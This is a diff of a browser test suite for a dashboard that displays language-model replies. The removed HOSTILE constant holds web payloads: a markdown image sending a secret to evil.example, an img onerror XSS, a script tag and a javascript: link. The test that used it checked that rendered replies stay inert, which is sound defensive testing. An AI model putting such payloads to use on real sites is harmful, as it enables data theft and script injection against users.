@@ -3,16 +3,13 @@
 import hashlib
 import re
 import signal
-import socket
-import subprocess
-import sys
 import urllib.request
 import zipfile
 from pathlib import Path
 
 import pytest
 
-from browser_app import ARGS, CHROMIUM, App, new_tab
+from browser_app import ARGS, CHROMIUM, App, clean, free_port, new_tab
 from cache.store import Store
 from fake_server import FakeServer, Reply
 
@@ -20,7 +17,6 @@ pytestmark = [
     pytest.mark.browser,
     pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here; install it or set CHROMIUM=/path/to/it"),
 ]
-PAGES = ("", "run_comparison", "read_samples", "see_results", "export_results")
 SIMULATED = """
 name = "journey"
 setting = "helpful_only_prefix"
@@ -35,10 +31,6 @@ facts = ["objections_read"]
 levels = [0, 2, 5]
 polarities = ["affirmed", "placebo"]
 """
-HOSTILE = (
-    "A\n![x](http://evil.example/leak?secret=1) <img src=http://evil.example/a onerror=alert(1)> "
-    "<script>document.title='owned'</script> [click](javascript:alert(1)) :material/home: $x^2$ \u202eabc\u200b "
-)
 
 
 @pytest.fixture(scope="module")
@@ -52,10 +44,7 @@ def browser():
 
 @pytest.fixture
 def app(tmp_path):
-    with socket.socket() as probe:
-        probe.bind(("127.0.0.1", 0))
-        port = probe.getsockname()[1]
-    running = App(tmp_path / "ws", port)
+    running = App(tmp_path / "ws", free_port())
     (running.workspace / "comparisons").mkdir(parents=True)
     yield running
     if running.process and running.process.poll() is None:
@@ -65,18 +54,6 @@ def app(tmp_path):
 def write(app, text):
     name = text.split('name = "')[1].split('"')[0]
     (app.workspace / "comparisons" / f"{name}.toml").write_text(text, encoding="utf-8")
-
-
-def clean(tab):
-    assert tab.outside == []
-    assert tab.errors == []
-
-
-def violations(page):
-    from axe_playwright_python.sync_playwright import Axe
-
-    found = Axe().run(page).response["violations"]
-    return [f"{item['id']}: {item['nodes'][0]['html'][:160]}" for item in found]
 
 
 def test_compose_plan_run_read_see_export(app, browser, tmp_path):
@@ -130,7 +107,7 @@ def test_facts_are_toggled_and_taken_along_into_a_comparison(app, browser):
     page.locator("mark").first.wait_for(timeout=30_000)
     assert "doses=objections_read" in page.url
     page.get_by_role("button", name="Use these facts in a comparison").click()
-    page.get_by_role("heading", name="Run comparison").wait_for(timeout=30_000)
+    page.get_by_role("heading", name="Plan a comparison").wait_for(timeout=30_000)
     tab.settled("Objections are read")
     clean(tab)
 
@@ -167,50 +144,6 @@ def test_a_run_survives_reload_a_second_browser_cancel_and_server_restart(app, b
         three.page.get_by_text("Finished").first.wait_for(timeout=90_000)
         assert len(server.bodies) - before == planned - survived
     assert three.outside == one.outside == two.outside == []
-
-
-def test_hostile_text_is_shown_and_nothing_of_it_is_live(app, browser):
-    """Images, scripts and links in what a model says: zero requests leave, nothing runs."""
-    with FakeServer(lambda _n, _b: Reply(text=HOSTILE)) as server:
-        write(app, SIMULATED.replace("organism-paper-like", f"openai_compatible/fake-1@{server.base_url}")
-              .replace("queries = 12", "queries = 2").replace("replicates = 2", "replicates = 1"))  # fmt: skip
-        app.start()
-        tab = new_tab(browser)
-        tab.open(f"{app.url}/run_comparison?comparison=journey")
-        tab.page.get_by_role("button", name="Launch").click()
-        tab.settled("Finished", timeout_s=60)
-    for name in PAGES:
-        tab.open(f"{app.url}/{name}?comparison=journey")
-        tab.page.wait_for_timeout(500)  # late images would be fetched now
-        assert tab.page.title() != "owned"
-    clean(tab)
-
-
-@pytest.mark.parametrize("name", PAGES)
-def test_every_page_starts_non_empty_accessible_and_quiet(app, browser, name):
-    app.start()
-    tab = new_tab(browser)
-    tab.open(f"{app.url}/{name}")
-    tab.page.get_by_role("heading", level=1).wait_for()
-    assert len(tab.page.locator("[data-testid=stMain]").inner_text()) > 200
-    assert violations(tab.page) == []
-    clean(tab)
-
-
-@pytest.mark.parametrize("name", PAGES[2:])
-def test_pages_with_results_are_accessible(app, browser, name):
-    write(app, SIMULATED)
-    subprocess.run(
-        [sys.executable, "-m", "dashboard", "--workspace", str(app.workspace), "run", "journey", "--no-report"],
-        check=True,
-        capture_output=True,
-    )
-    app.start()
-    tab = new_tab(browser)
-    tab.open(f"{app.url}/{name}?comparison=journey")
-    tab.settled("SIMULATED")
-    assert violations(tab.page) == []
-    clean(tab)
 
 
 @pytest.mark.model
